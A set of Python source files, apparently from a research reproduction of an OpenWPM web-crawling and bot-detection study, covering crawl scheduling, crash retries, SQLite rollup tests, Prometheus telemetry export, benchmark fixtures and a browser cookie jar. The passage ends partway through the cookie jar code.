        extension = OpenWPMExtension(params, storage=storage_handle,
                                     js_instrument=js_instrument,
                                     telemetry=self.telemetry)
        browser = Browser(profile, self.network,
                          client_id=f"openwpm-{params.browser_id}",
                          extension=extension, seed=params.seed)
        return ManagedBrowser(browser_id=params.browser_id, params=params,
                              browser=browser, extension=extension)

    def _restart_browser(self, slot: ManagedBrowser,
                         site_url: str = "") -> None:
        """Replace a crashed browser, preserving its identity and params.

        ``site_url`` is the URL being visited when the browser died, so
        the restart row in ``crash_history`` names the responsible site.
        """
        self.storage.record_crash(slot.browser_id, site_url, "restart")
        self.telemetry.metrics.counter("browser_restarts").inc()
        replacement = self._launch_browser(slot.params)
        slot.browser = replacement.browser
        slot.extension = replacement.extension
        slot.crash_count += 1

    # ------------------------------------------------------------------
    def get(self, url: str,
            callbacks: Optional[List[Callable]] = None,
            dwell_time: Optional[float] = None) -> None:
        """Enqueue-and-run a GET command sequence for *url*."""
        self.execute_command_sequence(CommandSequence(
            url=url, callbacks=callbacks or [], dwell_time=dwell_time))

    def execute_command_sequence(self, sequence: CommandSequence,
                                 slot: Optional[ManagedBrowser] = None
                                 ) -> Optional[VisitResult]:
        if slot is None:
            slot = self.browsers[self._next_slot]
            self._next_slot = (self._next_slot + 1) % len(self.browsers)

        tm = self.telemetry
        tm.metrics.counter("visits_attempted").inc()
        with tm.tracer.span("visit", url=sequence.url,
                            browser_id=slot.browser_id) as visit_span:
            attempts = 0
            while attempts < self.manager_params.failure_limit:
                attempts += 1
                if attempts > 1:
                    tm.metrics.counter("visits_retried").inc()
                tm.metrics.counter("visit_attempts_total").inc()
                self.storage.begin_visit(slot.browser_id, sequence.url)
                try:
                    if self.manager_params.crash_probability > 0 and \
                            self._rng.random() < \
                            self.manager_params.crash_probability:
                        raise BrowserCrashed(sequence.url)
                    dwell = sequence.dwell_time \
                        if sequence.dwell_time is not None \
                        else slot.params.dwell_time
                    with tm.stage("page_load"):
                        result = slot.browser.visit(sequence.url,
                                                    wait=dwell)
                    with tm.stage("interaction"):
                        self._interact(slot, result)
                    with tm.stage("callbacks"):
                        for callback in sequence.callbacks:
                            callback(slot.browser, result)
                    with tm.stage("storage_commit"):
                        self.storage.end_visit(slot.browser_id)
                    tm.metrics.counter("visits_completed").inc()
                    visit_span.set_attribute("outcome", "completed")
                    visit_span.set_attribute("attempts", attempts)
                    return result
                except BrowserCrashed:
                    tm.metrics.counter("visits_crashed").inc()
                    self.storage.record_crash(slot.browser_id,
                                              sequence.url, "crash")
                    self.storage.end_visit(slot.browser_id)
                    with tm.stage("browser_restart"):
                        self._restart_browser(slot, sequence.url)
                except Exception:
                    # Unexpected fault: close the visit so the browser
                    # slot stays usable, then let queue-level retry
                    # (or the caller) deal with the site.
                    if slot.browser_id in self.storage.active_visits():
                        self.storage.end_visit(slot.browser_id)
                    raise
            tm.metrics.counter("visits_failed_exhausted").inc()
            visit_span.set_attribute("outcome", "failed_exhausted")
            visit_span.set_attribute("attempts", attempts)
            visit_span.set_status("error:failure_limit")
            self.storage.record_failed_visit(
                slot.browser_id, sequence.url, attempts, "failure_limit")
            self.failed_sites.append(sequence.url)
            return None

    def _interact(self, slot: ManagedBrowser, result) -> None:
        """Run the configured interaction driver on the loaded page.

        'selenium' mirrors the framework's default event synthesis;
        'human' is the HLISA-style driver (Sec. 7 / Goßen et al.).
        """
        style = slot.params.interaction
        if style is None or result is None or result.top_window is None:
            return
        from repro.browser.interaction import (
            HumanLikeInteraction,
            SeleniumInteraction,
        )

        driver_cls = HumanLikeInteraction if style == "human" \
            else SeleniumInteraction
        driver = driver_cls(self._rng)
        window = result.top_window
        driver.scroll(window, 600.0)
        driver.click(window, "a")

    def crawl(self, urls: List[str],
              callbacks: Optional[List[Callable]] = None
              ) -> List[Optional[VisitResult]]:
        """Visit every URL, distributing across browser slots."""
        return [self.execute_command_sequence(
            CommandSequence(url=url, callbacks=list(callbacks or [])))
            for url in urls]

    def crawl_scheduled(self, urls: List[str],
                        workers: Optional[int] = None,
                        queue_path: str = ":memory:",
                        resume: bool = False,
                        callbacks: Optional[List[Callable]] = None,
                        stop_after_jobs: Optional[int] = None,
                        max_attempts: int = 2,
                        lease_seconds: float = 300.0) -> "CrawlReport":
        """Drain *urls* through the crawl scheduler.

        Each worker owns one browser slot (``workers`` therefore cannot
        exceed the number of browsers; it defaults to all of them). The
        task manager's own ``failure_limit`` retry loop stays
        authoritative for in-visit crashes; a site that exhausts it is
        reported to the queue as terminally failed and never re-queued.
        Queue-level backoff handles worker-level faults (unexpected
        exceptions, expired leases): ``claim`` consumes one attempt, so
        ``max_attempts=2`` gives such sites exactly one backed-off
        re-run. Sites that still fail terminally at the queue level get
        a ``failed_visits`` row, keeping the crawl-loss ledger complete.

        With ``resume=True`` (requires a file-backed ``queue_path``)
        completed sites are skipped and only the remainder is visited.
        """
        from repro.sched import CrawlScheduler, JobFailed

        if workers is None:
            workers = len(self.browsers)
        if workers > len(self.browsers):
            raise ValueError(
                f"{workers} workers need {workers} browser slots, "
                f"only {len(self.browsers)} configured")

        scheduler = CrawlScheduler(
            queue_path, resume=resume, seed=self.manager_params.seed,
            max_attempts=max_attempts, lease_seconds=lease_seconds,
            telemetry=self.telemetry)
        scheduler.enqueue(urls)

        def handler(job: Any, worker_index: int) -> None:
            slot = self.browsers[worker_index]
            result = self.execute_command_sequence(
                CommandSequence(url=job.site_url,
                                callbacks=list(callbacks or [])),
                slot=slot)
            if result is None:
                # failure_limit already exhausted and the failed_visits
                # row written — do not burn queue retries on it too.
                raise JobFailed("failure_limit", retry=False)

        def record_terminal_failure(job: Any, error: str,
                                    worker_index: int) -> None:
            if error == "failure_limit":
                return  # execute_command_sequence already wrote the row
            slot = self.browsers[worker_index]
            self.storage.record_failed_visit(
                slot.browser_id, job.site_url, job.attempts, error)
            self.failed_sites.append(job.site_url)

        try:
            return scheduler.run(
                handler, workers=workers,
                stop_after_jobs=stop_after_jobs,
                on_terminal_failure=record_terminal_failure)
        finally:
            scheduler.close()

    def close(self) -> None:
        """Persist the telemetry snapshot alongside the crawl, then close."""
        if self.telemetry.enabled:
            self.storage.persist_telemetry(self.telemetry.snapshot())
        self.storage.close()

"""Unit tests for the incremental rollup maintainer.

The equivalence harness (``test_serve_equivalence.py``) pins whole
crawls; these tests pin the maintainer's lifecycle edges one at a
time: disabled maintenance must *stale-mark* rather than drift, schema
bumps must rebuild, the open-time consistency probe must catch rollups
that lost a commit, and each retraction hook must decrement exactly
the delta its visit contributed.
"""

import os
import sqlite3

import pytest

from repro.openwpm.storage import StorageController
from repro.serve import (
    ROLLUP_SCHEMA_VERSION,
    build,
    generation,
    rollups_state,
    verify,
)

SITE = "https://lab.test/site-00000"


def visit(storage, site=SITE, js=(), cookies=0, requests=0):
    storage.begin_visit(0, site)
    for symbol in js:
        storage.record_javascript(site, site + "/app.js", symbol,
                                  "get", "", browser_id=0)
    for i in range(cookies):
        storage.record_cookie("explicit", "tracker.test", f"c{i}", "v",
                              "/", False, False, None, site, True,
                              browser_id=0)
    for i in range(requests):
        storage.record_http_request(site + f"/r{i}", site, site, "GET",
                                    "script", True, browser_id=0)
    storage.end_visit(0)


def site_counter(storage, column, site=SITE):
    rows = storage.query(
        f"SELECT {column} AS v FROM rollups_sites "  # noqa: S608
        "WHERE site_url = ?", (site,))
    return int(rows[0]["v"]) if rows else 0


class TestLifecycle:
    def test_virgin_database_starts_fresh_at_generation_zero(self):
        storage = StorageController(":memory:")
        assert storage.rollups.is_fresh()
        assert generation(storage.connection) == 0
        storage.close()

    def test_disabled_maintenance_marks_existing_rollups_stale(
            self, tmp_path):
        db_path = str(tmp_path / "crawl.db")
        storage = StorageController(db_path)
        visit(storage, js=["window.fetch"])
        storage.close()

        storage = StorageController(db_path, rollups=False)
        assert not storage.rollups.enabled
        # The first raw mutation invalidates the now-unmaintained
        # rollups; a served answer must go missing, never drift.
        visit(storage, site=SITE + "x")
        assert rollups_state(storage.connection) == "stale"
        report = verify(storage.connection)
        assert report["ok"] is False or report["state"] == "stale"
        # Backfill repairs it.
        build(storage.connection)
        assert verify(storage.connection)["ok"]
        storage.close()

    def test_env_var_disables_maintenance(self, tmp_path,
                                          monkeypatch):
        monkeypatch.setenv("REPRO_ROLLUPS", "off")
        storage = StorageController(str(tmp_path / "env.db"))
        assert not storage.rollups.enabled
        storage.close()

    def test_schema_version_bump_rebuilds_as_stale(self, tmp_path):
        db_path = str(tmp_path / "crawl.db")
        storage = StorageController(db_path)
        visit(storage)
        storage.close()

        connection = sqlite3.connect(db_path)
        connection.execute(
            "UPDATE rollups_meta SET value = ? "
            "WHERE key = 'schema_version'",
            (str(ROLLUP_SCHEMA_VERSION + 1),))
        connection.commit()
        connection.close()

        # Reopen: the version mismatch drops the tables; a database
        # with existing crawl data comes back stale (backfill is the
        # caller's explicit decision), and build() repairs it.
        storage = StorageController(db_path)
        assert rollups_state(storage.connection) == "stale"
        build(storage.connection)
        assert storage.rollups.is_fresh()
        assert verify(storage.connection)["ok"]
        storage.close()

    def test_consistency_probe_catches_lost_commits(self, tmp_path):
        db_path = str(tmp_path / "crawl.db")
        storage = StorageController(db_path)
        visit(storage)
        storage.close()

        # Simulate a raw-table write that never reached the rollups
        # (a crash between commits, or an out-of-band editor).
        connection = sqlite3.connect(db_path)
        connection.execute(
            "INSERT INTO site_visits (visit_id, browser_id, site_url, "
            "run_label) VALUES (999, 0, 'https://rogue.test/', '')")
        connection.commit()
        connection.close()

        storage = StorageController(db_path)
        assert rollups_state(storage.connection) == "stale"
        assert not storage.rollups.is_fresh()
        storage.close()


class TestIncrementalAccounting:
    def test_webdriver_probe_predicate_is_case_sensitive(self):
        storage = StorageController(":memory:")
        visit(storage, js=["window.navigator.webdriver",
                           "window.Navigator.WebDriver",
                           "screen.width"])
        assert site_counter(storage, "webdriver_probes") == 1
        assert site_counter(storage, "js_rows") == 3
        assert verify(storage.connection)["ok"]
        storage.close()

    def test_delete_visit_retracts_the_whole_delta(self):
        storage = StorageController(":memory:")
        visit(storage, js=["navigator.webdriver"], cookies=2,
              requests=3)
        visit(storage, site=SITE + "x", js=["screen.width"])
        gen_before = storage.rollups.generation()

        deleted = storage.delete_visit(1)
        assert deleted["javascript"] == 1
        assert deleted["javascript_cookies"] == 2
        assert deleted["http_requests"] == 3
        # The site's rollup row zeroed out and was removed; the other
        # site's aggregates are untouched; symbols decremented away.
        assert storage.query(
            "SELECT * FROM rollups_sites WHERE site_url = ?",
            (SITE,)) == []
        assert site_counter(storage, "visits", SITE + "x") == 1
        assert storage.query(
            "SELECT * FROM rollups_symbols "
            "WHERE symbol = 'navigator.webdriver'") == []
        assert storage.rollups.generation() > gen_before
        assert verify(storage.connection)["ok"]
        storage.close()

    def test_failed_and_quarantine_retraction(self):
        storage = StorageController(":memory:")
        storage.record_failed_visit(0, SITE, 3, "crash_loop")
        storage.record_failed_visit(0, SITE, 3, "crash_loop")
        storage.record_quarantine(SITE, 3, "crash_loop")
        assert site_counter(storage, "failed") == 2
        assert site_counter(storage, "quarantined") == 1
        assert verify(storage.connection)["ok"]

        assert storage.retract_failed_visits(SITE) == 2
        assert storage.retract_quarantine(SITE) == 1
        assert storage.query(
            "SELECT * FROM rollups_sites WHERE site_url = ?",
            (SITE,)) == []
        assert storage.query("SELECT * FROM rollups_drop_reasons") == []
        assert verify(storage.connection)["ok"]
        storage.close()

    def test_content_rows_booked_once_despite_dedup(self):
        storage = StorageController(":memory:")
        storage.begin_visit(0, SITE)
        storage.record_content("var x = 1;", SITE + "/a.js",
                               "text/javascript")
        storage.end_visit(0)
        storage.begin_visit(0, SITE)
        storage.record_content("var x = 1;", SITE + "/b.js",
                               "text/javascript")
        storage.end_visit(0)
        totals = {row["name"]: row["value"] for row in storage.query(
            "SELECT name, value FROM rollups_totals")}
        # OR IGNORE deduped the second copy; the rollup must count
        # rows that actually landed, not insert attempts.
        assert totals["content"] == 1
        assert verify(storage.connection)["ok"]
        storage.close()

    def test_aborted_visit_contributes_nothing_but_content(self):
        storage = StorageController(":memory:")
        storage.begin_visit(0, SITE)
        storage.record_javascript(SITE, SITE + "/app.js",
                                  "navigator.webdriver", "get", "",
                                  browser_id=0)
        storage.record_content("payload();", SITE + "/app.js",
                               "text/javascript")
        storage.abort_visit(0)
        totals = {row["name"]: row["value"] for row in storage.query(
            "SELECT name, value FROM rollups_totals")}
        assert totals.get("javascript", 0) == 0
        assert totals.get("site_visits", 0) == 0
        assert totals["content"] == 1  # content survives aborts
        assert verify(storage.connection)["ok"]
        storage.close()

"""Parallel crawl scheduler: persistent queue, workers, resume.

The subsystem the large-scale crawls (Tranco-100K incidence study,
Sec. 4) run on: a SQLite-backed job queue with lease-based claiming and
deterministic retry backoff (:mod:`repro.sched.jobs`), a thread worker
pool where each worker owns one browser slot (:mod:`repro.sched.pool`),
the checkpoint/resume orchestration tying them together
(:mod:`repro.sched.scheduler`), and a process-isolated worker pool with
a supervising coordinator and single-writer storage broker
(:mod:`repro.sched.procpool`, ``--worker-procs``). ``python -m repro
crawl`` is the CLI surface.
"""

from repro.sched.jobs import (
    COMPLETED,
    FAILED,
    LEASED,
    PENDING,
    Job,
    JobQueue,
    LeaseError,
    ReclaimResult,
    jitter_fraction,
)
from repro.sched.pool import (
    CompletionHook,
    DiscardResultHook,
    JobFailed,
    PoolReport,
    TerminalFailureHook,
    WorkerPool,
)
from repro.sched.procpool import (
    CrawlBroker,
    ProcessPool,
    ProcPoolReport,
    ScanBroker,
    WorkerSpec,
    diff_snapshots,
    fold_scan_spools,
    run_process_crawl,
    run_process_scan,
)
from repro.sched.scheduler import CrawlReport, CrawlScheduler

__all__ = [
    "COMPLETED",
    "FAILED",
    "LEASED",
    "PENDING",
    "Job",
    "JobQueue",
    "LeaseError",
    "ReclaimResult",
    "jitter_fraction",
    "CompletionHook",
    "DiscardResultHook",
    "JobFailed",
    "PoolReport",
    "TerminalFailureHook",
    "WorkerPool",
    "CrawlReport",
    "CrawlScheduler",
    "CrawlBroker",
    "ProcessPool",
    "ProcPoolReport",
    "ScanBroker",
    "WorkerSpec",
    "diff_snapshots",
    "fold_scan_spools",
    "run_process_crawl",
    "run_process_scan",
]

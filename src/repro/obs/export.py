"""Exporters: telemetry snapshots as JSON and Prometheus text format.

Both operate on *snapshot dicts* (the output of
``MetricsRegistry.snapshot()`` / ``Telemetry.snapshot()``, which is also
the shape the ``telemetry`` SQLite table round-trips), so a live crawl
and a stored database export identically.
"""

from __future__ import annotations

import json
from typing import Any, Dict, Iterable, List

_PROM_PREFIX = "repro_"

#: ``# HELP`` text per metric (pre-prefix names). Metrics outside this
#: table get a generated line — every exported family carries HELP.
HELP_TEXTS: Dict[str, str] = {
    "visits_attempted": "Sites the crawl attempted to visit.",
    "visits_completed": "Visits that committed all their data.",
    "visits_crashed": "Visit attempts ended by a browser crash.",
    "visits_retried": "Visit attempts after the first for a site.",
    "visits_failed_exhausted":
        "Sites given up on after exhausting the failure limit.",
    "visit_attempts_total": "Individual visit attempts, all outcomes.",
    "visits_hung": "Visit attempts aborted by the stage watchdog.",
    "visits_aborted": "Hung visits whose partial rows were discarded.",
    "visits_abandoned": "Hung visits handed back to the queue.",
    "visits_errored": "Visit attempts ended by unexpected errors.",
    "visits_network_faults": "Visit attempts ended by network faults.",
    "visits_storage_faults":
        "Visit attempts ended by storage-layer faults.",
    "visits_quarantined":
        "Visits short-circuited by an open circuit breaker.",
    "visits_given_up": "Loss-ledger entries written (failed_visits).",
    "visits_given_up_retracted":
        "Loss-ledger entries retracted by a superseding verdict.",
    "visits_discarded":
        "Committed visits deleted after losing their lease.",
    "sites_quarantined": "Sites quarantined by the circuit breaker.",
    "sites_quarantined_retracted":
        "Quarantine verdicts retracted as stale.",
    "browser_restarts": "Browser replacements after crashes.",
    "browser_cooldowns": "Crash-loop cooldowns applied to a slot.",
    "browser_crash_count": "Crashes per browser slot.",
    "records_written": "Instrument records accepted by storage.",
    "records_discarded":
        "Instrument records discarded with an aborted visit.",
    "scripts_collected": "Script bodies archived to content storage.",
    "instrumentation_blocked":
        "Pages that blocked instrument injection.",
    "integrity_probe_failures":
        "End-of-visit recording-integrity probes that failed.",
    "recording_integrity":
        "1 while the JS instrument's channel is verified live.",
    "stage_seconds": "Per-stage visit latency (virtual seconds).",
    "queue_wait_seconds":
        "Job wait from enqueue to claim (virtual seconds).",
    "lease_duration_seconds":
        "Job lease hold time (virtual seconds).",
    "sched_jobs_claimed": "Queue jobs claimed by workers.",
    "sched_jobs_completed": "Queue jobs completed.",
    "sched_jobs_failed": "Queue jobs terminally failed.",
    "sched_jobs_retried": "Queue jobs sent back for backoff retry.",
    "sched_lease_reclaims": "Expired leases reclaimed.",
    "sched_worker_deaths": "Injected worker deaths (chaos).",
    "sched_leases_lost": "Verdicts voided by an expired lease.",
    "sched_workers_busy": "Workers currently holding a job.",
    "sched_queue_depth": "Queue depth by job state.",
}

#: Quantiles exported for every histogram, as ``<name>_p<q>`` gauges.
QUANTILES: "tuple[tuple[str, float], ...]" = (
    ("p50", 0.50), ("p95", 0.95), ("p99", 0.99))


def _prom_name(name: str) -> str:
    out = []
    for ch in name:
        out.append(ch if ch.isalnum() or ch == "_" else "_")
    return _PROM_PREFIX + "".join(out)


def _help_text(raw_name: str) -> str:
    return HELP_TEXTS.get(raw_name, f"Crawl metric {raw_name}.")


def histogram_quantile(quantile: float, bounds: List[float],
                       bucket_counts: List[int]) -> float:
    """Estimate a quantile from fixed-bucket counts.

    Linear interpolation inside the containing bucket — the same
    estimate ``histogram_quantile()`` makes in PromQL. Observations in
    the +Inf bucket clamp to the largest finite bound (there is no
    upper edge to interpolate toward).
    """
    total = sum(bucket_counts)
    if total <= 0:
        return 0.0
    target = quantile * total
    cumulative = 0
    lower = 0.0
    for index, bound in enumerate(bounds):
        previous = cumulative
        cumulative += bucket_counts[index]
        if cumulative >= target:
            in_bucket = cumulative - previous
            if in_bucket <= 0:
                return bound
            fraction = (target - previous) / in_bucket
            return lower + (bound - lower) * fraction
        lower = bound
    return bounds[-1] if bounds else 0.0


def _prom_labels(labels: Dict[str, str], extra: str = "") -> str:
    parts = [f'{key}="{value}"' for key, value in sorted(labels.items())]
    if extra:
        parts.append(extra)
    return "{" + ",".join(parts) + "}" if parts else ""


def _format_value(value: float) -> str:
    if value == float("inf"):
        return "+Inf"
    if float(value).is_integer():
        return str(int(value))
    return repr(float(value))


def metrics_to_prometheus(metrics: Iterable[Dict[str, Any]]) -> str:
    """Render metric snapshot dicts in Prometheus text exposition format.

    Every family gets ``# HELP`` and ``# TYPE`` lines; histograms
    additionally export p50/p95/p99 estimates as ``<name>_p50`` /
    ``_p95`` / ``_p99`` gauge families (sum/count alone cannot answer
    "how slow is the tail" on a dashboard).
    """
    lines: List[str] = []
    # Quantile gauges are grouped per derived family and emitted after
    # every histogram, so each family's samples stay consecutive
    # (exposition-format rule).
    quantile_families: "Dict[str, List[str]]" = {}
    seen_types: Dict[str, str] = {}

    def header(name: str, kind: str, help_text: str,
               into: List[str]) -> None:
        if name not in seen_types:
            seen_types[name] = kind
            into.append(f"# HELP {name} {help_text}")
            into.append(f"# TYPE {name} {kind}")

    for metric in metrics:
        kind = metric["kind"]
        raw_name = metric["name"]
        name = _prom_name(raw_name)
        labels = {str(k): str(v)
                  for k, v in (metric.get("labels") or {}).items()}
        header(name, kind, _help_text(raw_name), lines)
        if kind in ("counter", "gauge"):
            lines.append(
                f"{name}{_prom_labels(labels)} "
                f"{_format_value(metric['value'])}")
        elif kind == "histogram":
            bounds = list(metric["bounds"]) + [float("inf")]
            running = 0
            for bound, count in zip(bounds, metric["bucket_counts"]):
                running += count
                le = _prom_labels(labels,
                                  extra=f'le="{_format_value(bound)}"')
                lines.append(f"{name}_bucket{le} {running}")
            lines.append(f"{name}_sum{_prom_labels(labels)} "
                         f"{_format_value(metric['sum'])}")
            lines.append(f"{name}_count{_prom_labels(labels)} "
                         f"{metric['count']}")
            for suffix, quantile in QUANTILES:
                qname = f"{name}_{suffix}"
                family = quantile_families.setdefault(qname, [])
                header(qname, "gauge",
                       f"{int(quantile * 100)}th percentile estimate "
                       f"of {name}.", family)
                estimate = histogram_quantile(
                    quantile, list(metric["bounds"]),
                    list(metric["bucket_counts"]))
                family.append(
                    f"{qname}{_prom_labels(labels)} "
                    f"{_format_value(estimate)}")
    for qname in sorted(quantile_families):
        lines.extend(quantile_families[qname])
    return "\n".join(lines) + ("\n" if lines else "")


def snapshot_to_json(snapshot: Dict[str, Any], indent: int = 2) -> str:
    """Serialise a full ``Telemetry.snapshot()`` (spans + metrics)."""
    return json.dumps(snapshot, indent=indent, sort_keys=True,
                      default=str)


def spans_to_tree_lines(spans: Iterable[Dict[str, Any]],
                        max_traces: int = 5) -> List[str]:
    """Render finished spans as indented per-trace trees (for reports)."""
    by_trace: Dict[str, List[Dict[str, Any]]] = {}
    for span in spans:
        by_trace.setdefault(span["trace_id"], []).append(span)
    lines: List[str] = []
    for trace_id in sorted(by_trace)[:max_traces]:
        members = by_trace[trace_id]
        children: Dict[Any, List[Dict[str, Any]]] = {}
        for span in members:
            children.setdefault(span.get("parent_id"), []).append(span)

        def walk(parent_id, depth: int) -> None:
            for span in sorted(children.get(parent_id, []),
                               key=lambda s: s["span_id"]):
                indent = "  " * depth
                lines.append(
                    f"{indent}{span['name']} "
                    f"[{span['duration']:.3f}s {span['status']}]")
                walk(span["span_id"], depth + 1)

        lines.append(f"{trace_id}:")
        walk(None, 1)
    return lines

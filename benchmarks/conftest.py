"""Shared benchmark fixtures and the results reporter.

The heavy experiment artifacts (synthetic world, scan dataset, paired
crawl) are built once per session and shared by every bench. Scale is
controlled by the ``REPRO_BENCH_SITES`` environment variable (default
2000; the paper's full scale of 100000 works but takes hours).

Every bench writes its reproduced table/figure to
``benchmarks/results/<name>.md`` so the numbers survive the run.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

RESULTS_DIR = Path(__file__).parent / "results"
BENCH_SITES = int(os.environ.get("REPRO_BENCH_SITES", "2000"))
BENCH_SEED = int(os.environ.get("REPRO_BENCH_SEED", "7"))


def report(name: str, title: str, lines) -> None:
    """Persist one bench's reproduced table and echo it."""
    RESULTS_DIR.mkdir(parents=True, exist_ok=True)
    body = "\n".join(str(line) for line in lines)
    text = f"# {title}\n\n{body}\n"
    (RESULTS_DIR / f"{name}.md").write_text(text)
    print(f"\n=== {title} ===")
    print(body)


def measure_telemetry_overhead(site_count: int = 1000, rounds: int = 3,
                               crash_probability: float = 0.05) -> dict:
    """Wall-clock cost of the telemetry layer on an identical crawl.

    Runs the same lab crawl with telemetry enabled and disabled (the
    null-object path). Rounds are *interleaved* (off, on, off, on, …)
    with a GC pass before each, and each mode keeps its best time — a
    sequential off-then-on protocol lets heap growth across runs
    masquerade as telemetry overhead. Returns seconds for both modes
    plus the relative overhead.
    """
    import gc
    import time

    from repro.obs.runner import run_telemetry_crawl
    from repro.obs.telemetry import Telemetry

    def timed(telemetry_factory) -> float:
        gc.collect()
        start = time.perf_counter()
        result = run_telemetry_crawl(
            site_count=site_count, seed=BENCH_SEED,
            crash_probability=crash_probability,
            telemetry=telemetry_factory())
        elapsed = time.perf_counter() - start
        result.close()
        return elapsed

    timed(Telemetry)  # warm-up, discarded
    on = off = float("inf")
    for _ in range(rounds):
        off = min(off, timed(Telemetry.disabled))
        on = min(on, timed(Telemetry))
    return {"sites": site_count, "rounds": rounds,
            "enabled_seconds": on, "disabled_seconds": off,
            "overhead_pct": (on - off) / off * 100.0 if off else 0.0}


@pytest.fixture(scope="session")
def bench_world():
    from repro.web import build_world

    return build_world(site_count=BENCH_SITES, seed=BENCH_SEED)


@pytest.fixture(scope="session")
def bench_scan(bench_world):
    from repro.core.scan import ScanPipeline

    pipeline = ScanPipeline(bench_world, client_id="bench-scan")
    return pipeline.run(visit_subpages=True)


@pytest.fixture(scope="session")
def bench_paired(bench_world):
    from repro.core.comparison import PairedCrawl

    sites = sorted(bench_world.ground_truth.detector_sites())
    crawl = PairedCrawl(bench_world, sites=sites, repetitions=3)
    return crawl.run()


@pytest.fixture(scope="session")
def bench_baseline_templates():
    from repro.browser.profiles import stock_firefox_profile
    from repro.core.fingerprint import capture_template
    from repro.core.lab import make_window

    out = {}
    for os_name in ("ubuntu", "macos"):
        _, window = make_window(stock_firefox_profile(os_name))
        out[os_name] = capture_template(window)
    return out

"""A small JavaScript engine (lexer, parser, two execution backends).

The engine executes the JavaScript subset used by the synthetic web's
scripts: bot detectors, trackers, attack payloads, and the instrumentation
injected by OpenWPM. Scripts are real JS source text, so the paper's
*static* analysis (regexes over deobfuscated source) and *dynamic*
analysis (recorded property accesses during execution) both operate on
the same artifacts they would in the field.

Execution backends: the reference tree-walking interpreter
(``REPRO_JS_COMPILE=off``) and a closure-compilation fast path
(:mod:`repro.jsengine.compiler`, the default) pinned to identical
observable behaviour — results, budget op counts, stack traces, and
instrument event order. Parsed programs live in a process-wide LRU
keyed by the source's sha256 (the same content hash the corpus store
uses), with compiled closure trees attached to the cached ASTs.

Supported language: ``var``/``let``/``const``, functions (declarations,
expressions, arrows), closures, ``this``, ``new``, prototypes, objects,
arrays, ``for``/``for..in``/``while``/``do``, ``if``, ``try/catch/finally``,
``throw``, ``typeof``/``delete``/``instanceof``/``in``, the usual operators,
and string/array/object builtins.
"""

from repro.jsengine.lexer import Lexer, LexError, Token
from repro.jsengine.parser import ParseError, Parser, parse
from repro.jsengine.interpreter import (
    Interpreter,
    ScriptFunction,
    ast_cache_stats,
    clear_ast_cache,
    compile_enabled,
    export_cache_metrics,
    parse_cached,
    set_compile_enabled,
    source_digest,
    warm_compile_cache,
)

__all__ = [
    "Lexer",
    "LexError",
    "Token",
    "Parser",
    "ParseError",
    "parse",
    "Interpreter",
    "ScriptFunction",
    "ast_cache_stats",
    "clear_ast_cache",
    "compile_enabled",
    "export_cache_metrics",
    "parse_cached",
    "set_compile_enabled",
    "source_digest",
    "warm_compile_cache",
]

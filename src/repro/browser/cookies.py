"""Browser cookie jar.

Cookies are the measurement the paper found most affected by bot
detection (Table 10): detected clients receive substantially fewer —
especially tracking — cookies. The jar records every change so the
cookie instrument can observe additions/updates exactly like OpenWPM's
``onCookieChanged`` listener.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Tuple

from repro.net.http import SetCookie
from repro.net.url import URL, etld_plus_one


@dataclass
class Cookie:
    """A stored cookie."""

    name: str
    value: str
    domain: str
    path: str = "/"
    #: Absolute expiry in seconds of browser virtual time; None = session.
    expires_at: Optional[float] = None
    http_only: bool = False
    secure: bool = False
    #: Host of the document that was being visited when the cookie was set.
    first_party_host: str = ""
    #: Set via document.cookie rather than a response header.
    via_javascript: bool = False
    created_at: float = 0.0

    @property
    def is_session(self) -> bool:
        return self.expires_at is None

    def lifetime(self) -> Optional[float]:
        if self.expires_at is None:
            return None
        return self.expires_at - self.created_at

    def is_third_party_for(self, top_host: str) -> bool:
        return etld_plus_one(self.domain.lstrip(".")) != etld_plus_one(
            top_host)


class CookieJar:
    """Stores cookies keyed by (domain, path, name)."""

    def __init__(self) -> None:
        self._cookies: Dict[Tuple[str, str, str], Cookie] = {}
        #: Index: registrable domain -> cookie keys, so per-request
        #: matching does not scan the whole jar on large crawls.
        self._by_site: Dict[str, List[Tuple[str, str, str]]] = {}
        #: Observers receive (cookie, change) with change in
        #: {'added', 'changed', 'deleted'}.
        self.observers: List[Callable[[Cookie, str], None]] = []
        self._sequence = itertools.count()

    def __len__(self) -> int:
        return len(self._cookies)

    def all_cookies(self) -> List[Cookie]:
        return list(self._cookies.values())

    # ------------------------------------------------------------------
    def set_from_response(self, set_cookie: SetCookie, request_url: URL,
                          top_host: str, now: float) -> Cookie:
        """Store a ``Set-Cookie`` delivered by *request_url*."""
        domain = set_cookie.domain or request_url.host
        expires_at = None if set_cookie.max_age is None \
            else now + set_cookie.max_age
        cookie = Cookie(
            name=set_cookie.name,
            value=set_cookie.value,
            domain=domain,
            path=set_cookie.path,
            expires_at=expires_at,
            http_only=set_cookie.http_only,
            secure=set_cookie.secure,
            first_party_host=top_host,
            created_at=now,
        )
        self._store(cookie)
        return cookie

    def set_from_document(self, text: str, document_url: URL,
                          top_host: str, now: float) -> Optional[Cookie]:
        """Handle a ``document.cookie = "name=value; ..."`` write."""
        parts = [part.strip() for part in text.split(";") if part.strip()]
        if not parts or "=" not in parts[0]:
            return None
        name, _, value = parts[0].partition("=")
        max_age: Optional[int] = None
        path = "/"
        domain = document_url.host
        for part in parts[1:]:
            key, _, attr_value = part.partition("=")
            key = key.strip().lower()
            if key == "max-age":
                try:
                    max_age = int(attr_value)
                except ValueError:
                    max_age = None
            elif key == "expires" and max_age is None:
                max_age = 86400 * 365  # coarse: far-future expiry
            elif key == "path":
                path = attr_value or "/"
            elif key == "domain":
                domain = attr_value.lstrip(".") or domain
        cookie = Cookie(
            name=name.strip(),
            value=value,
            domain=domain,
            path=path,
            expires_at=None if max_age is None else now + max_age,
            first_party_host=top_host,
            via_javascript=True,
            created_at=now,
        )
        self._store(cookie)
        return cookie

    def _store(self, cookie: Cookie) -> None:
        key = (cookie.domain, cookie.path, cookie.name)
        change = "changed" if key in self._cookies else "added"
        if key not in self._cookies:
            site = etld_plus_one(cookie.domain.lstrip("."))
            self._by_site.setdefault(site, []).append(key)
        self._cookies[key] = cookie
        for observer in self.observers:
            observer(cookie, change)

    # ------------------------------------------------------------------
    def cookies_for(self, url: URL, now: float) -> List[Cookie]:
        """Cookies that would be sent with a request to *url*."""
        matches = []
        site = etld_plus_one(url.host)
        for key in self._by_site.get(site, ()):
            cookie = self._cookies[key]
            if cookie.expires_at is not None and cookie.expires_at <= now:
                continue
